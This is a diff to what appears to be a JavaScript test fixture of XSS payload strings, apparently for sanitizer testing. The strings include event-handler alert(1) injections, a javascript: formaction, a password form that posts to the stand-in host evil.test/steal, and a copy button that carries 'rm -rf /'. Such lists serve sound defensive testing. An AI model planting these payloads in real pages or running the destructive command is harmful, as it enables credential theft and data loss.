@@ -34,7 +34,7 @@ const html = [
   "<input autofocus onfocus=alert(1)>",
   "<select autofocus onfocus=alert(1)><option>x</select>",
   "<keygen autofocus onfocus=alert(1)>",
-  '<button onclick="alert(1)" data-copy="rm -rf /">Copy</button>',
+  '<button onclick="alert(1)" data-copy="/x" data-copy-text="rm -rf /">Copy</button>',
   '<form action="https://evil.test/steal"><input name="password" type="password"><button>Sign in</button></form>',
   '<form><button formaction="javascript:alert(1)">x</button></form>',
   '<isindex type="image" src="x" onerror="alert(1)">',
